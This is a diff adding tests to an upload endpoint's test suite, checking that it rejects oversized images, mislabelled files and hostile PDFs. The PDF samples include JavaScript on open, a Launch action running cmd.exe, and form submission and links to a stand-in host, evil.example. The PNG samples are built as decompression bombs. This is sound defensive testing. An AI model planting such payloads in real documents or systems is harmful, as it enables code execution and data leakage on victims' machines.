@@ -1,3 +1,4 @@
+import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { type Client, refusalOf } from '../support/client.js';
 import { bench, sql } from '../support/bench.js';
@@ -5,6 +6,28 @@ import { keyClient, newKey, newOrganization, type TestOrganization } from '../su
 import { createLabelledShipment } from '../support/shipments.js';
 
 const PDF = Buffer.from('%PDF-1.4\n%%EOF\n');
+
+const chunk = (type: string, data: Buffer): Buffer => {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(data.length);
+  checksum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, checksum]);
+};
+
+/** A PNG with the header of a large image and almost no pixels. */
+function pngHeader(of: { side: number; depth: number; color: number; isInterlaced: boolean }): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(of.side, 0);
+  header.writeUInt32BE(of.side, 4);
+  header.set([of.depth, of.color, 0, 0, of.isInterlaced ? 1 : 0], 8);
+  return Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(Buffer.alloc(100))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
 
 describe('POST /v1/files', () => {
   let organization: TestOrganization;
@@ -68,6 +91,77 @@ describe('POST /v1/files', () => {
       expect(await sharp(kept).metadata()).toMatchObject({ width: 40, height: 20, format });
     },
   );
+
+  it.each([
+    ['an interlaced PNG, 16 bit RGBA', pngHeader({ side: 10_900, depth: 16, color: 6, isInterlaced: true }), 32],
+    ['an interlaced PNG, 8 bit RGB', pngHeader({ side: 3_400, depth: 8, color: 2, isInterlaced: true }), 32],
+    ['an interlaced PNG, 1 bit grey', pngHeader({ side: 5_800, depth: 1, color: 0, isInterlaced: true }), 32],
+    ['a PNG, 16 bit RGBA', pngHeader({ side: 4_100, depth: 16, color: 6, isInterlaced: false }), 128],
+    ['a PNG, 8 bit RGB', pngHeader({ side: 6_700, depth: 8, color: 2, isInterlaced: false }), 128],
+    ['a PNG, 8 bit grey', pngHeader({ side: 11_600, depth: 8, color: 0, isInterlaced: false }), 128],
+  ])('rejects %s, whose decoded size is too large, by its header', async (_, content, mib) => {
+    const { status, error } = await send(content, 'foto.png');
+    expect([status, error.code]).toEqual([400, 'VALIDATION_ERROR']);
+    expect(error.details.errors.file).toEqual([
+      expect.stringMatching(new RegExp(`^is too large: .*may take ${mib} MiB`)),
+    ]);
+  });
+
+  it('measures a progressive JPEG as one that is decoded as a whole', async () => {
+    const jpeg = (progressive: boolean) =>
+      sharp({ create: { width: 3_400, height: 3_400, channels: 3, background: '#0b6e5f' } })
+        .jpeg({ progressive })
+        .toBuffer();
+    const { status, error } = await send(await jpeg(true), 'foto.jpg');
+    expect([status, error.code, error.details.errors.file]).toEqual([
+      400,
+      'VALIDATION_ERROR',
+      [expect.stringMatching(/^is too large: 3400 × 3400 pixels/)],
+    ]);
+    expect((await send(await jpeg(false), 'foto.jpg')).status).toBe(201);
+  });
+
+  it.each([
+    [PDF, 'x.html', 'x.html.pdf'],
+    [PDF, 'Factura.PDF', 'Factura.PDF'],
+    [PDF, 'factura', 'factura.pdf'],
+    [PDF, 'factura.pdf.exe', 'factura.pdf.exe.pdf'],
+    [PDF, 'foto.jpg', 'foto.jpg.pdf'],
+    [PDF, 'x.svg', 'x.svg.pdf'],
+  ])('ends the name of a download by the kind of the file (%#)', async (content, name, expected) => {
+    const { data } = await send(content, name);
+    const response = await contentOf(data.id);
+    expect(response.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''${expected}`);
+  });
+
+  const pdfWith = (object: string) => Buffer.from(`%PDF-1.4\n1 0 obj\n${object}\nendobj\n%%EOF\n`, 'latin1');
+  const inStream = (object: string) =>
+    Buffer.concat([
+      Buffer.from('%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n'),
+      deflateSync(`2 0 ${object}`),
+      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
+    ]);
+  it.each([
+    ['a script at opening', pdfWith('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
+    ['an escaped name', pdfWith('<< /S /J#61vaScript /JS (app.alert(1)) >>')],
+    ['a program', pdfWith('<< /A << /S /Launch /F (cmd.exe) >> >>')],
+    ['a form that is sent', pdfWith('<< /A << /S /SubmitForm /F (https://evil.example) >> >>')],
+    ['an address at opening', pdfWith('<< /OpenAction << /S /URI /URI (https://evil.example) >> >>')],
+    ['a script in an object stream', inStream('<< /S /JavaScript /JS (app.alert(1)) >>')],
+    ['an object stream that cannot be read', pdfWith('<< /Type /ObjStm >>\nstream\nABC\nendstream')],
+    ['encryption', pdfWith('<< /Encrypt 5 0 R >>')],
+  ])('rejects a PDF with %s', async (_, content) => {
+    const { status, error } = await send(content);
+    expect([status, error.code, Object.keys(error.details.errors)]).toEqual([400, 'VALIDATION_ERROR', ['file']]);
+  });
+
+  it.each([
+    ['a place to open at', pdfWith('<< /OpenAction [3 0 R /FitH null] >>')],
+    ['links', pdfWith('<< /A << /S /URI /URI (https://verificacfdi.facturaelectronica.sat.gob.mx) >> >>')],
+    ['objects in a stream', inStream('<< /Type /Catalog /Pages 3 0 R >>')],
+  ])('stores a PDF with %s', async (_, content) => {
+    expect((await send(content)).status).toBe(201);
+  });
 
   it('refuses what is something else by its bytes, broken, too long, not a form, or without a file', async () => {
     const html = await send(Buffer.from('<script>alert(1)</script>'), 'factura.pdf');
